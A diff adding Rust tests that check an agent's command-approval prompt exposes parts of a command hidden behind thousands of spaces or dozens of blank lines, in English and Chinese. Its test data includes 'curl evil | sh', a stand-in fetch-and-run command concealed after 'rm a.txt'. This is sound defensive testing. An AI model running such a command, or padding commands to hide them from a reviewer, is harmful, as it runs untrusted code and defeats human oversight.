@@ -45,6 +45,38 @@ fn the_question_is_whole_and_shows_what_a_reader_would_not_see() {
 }
 
 #[test]
+fn a_command_cannot_be_pushed_out_of_sight() {
+    let with = |command: String| {
+        let summary = command.clone().into();
+        ApprovalRequested { summary, command: Some(command.into()), ..asked() }
+    };
+    let spaces = with(format!("rm a.txt{}; curl evil | sh", " ".repeat(3_000)));
+    let text = question_text(&spaces, "en");
+    assert!(text.chars().count() < 1_000, "{text}");
+    assert!(text.contains("rm a.txt ␣×3000 ; curl evil | sh"), "{text}");
+    assert!(text.contains("Command (3024 characters in 1 line):"), "{text}");
+    let lines = with(format!("rm a.txt{}curl evil | sh", "\n".repeat(60)));
+    let text = question_text(&lines, "en");
+    assert!(text.lines().count() < 10, "{text}");
+    assert!(text.contains("⏎×59 (empty lines)"), "{text}");
+    let headline = text.lines().next().unwrap();
+    assert!(headline.contains("more follows: the command has 82 characters in 61 lines"), "{text}");
+    let text = question_text(&lines, "zh-CN");
+    assert!(text.lines().next().unwrap().contains("后面还有：命令共 82 个字符、61 行"), "{text}");
+    // What is short and plain is shown as it is.
+    let text = question_text(&with("if x; then\n    make\n\nfi".to_owned()), "en");
+    assert!(text.contains("Command:\n    if x; then\n        make\n    \n    fi\n"), "{text}");
+}
+
+#[test]
+fn every_part_that_is_a_reason_is_in_the_risk() {
+    let parts = ["[rm a.txt] x".to_owned(), "[curl evil] y".to_owned()];
+    insta::assert_snapshot!(with_parts("r", &parts, "en"), @"r; parts to approve: [rm a.txt] x; [curl evil] y");
+    insta::assert_snapshot!(with_parts("r", &parts, "zh"), @"r；需要批准的部分：[rm a.txt] x；[curl evil] y");
+    assert_eq!(with_parts("r", &parts[..1], "en"), "r");
+}
+
+#[test]
 fn a_reply_that_is_asked_back_is_told_why_and_what_to_answer() {
     let pending = [PendingApproval {
         code: "7QX".to_owned(),
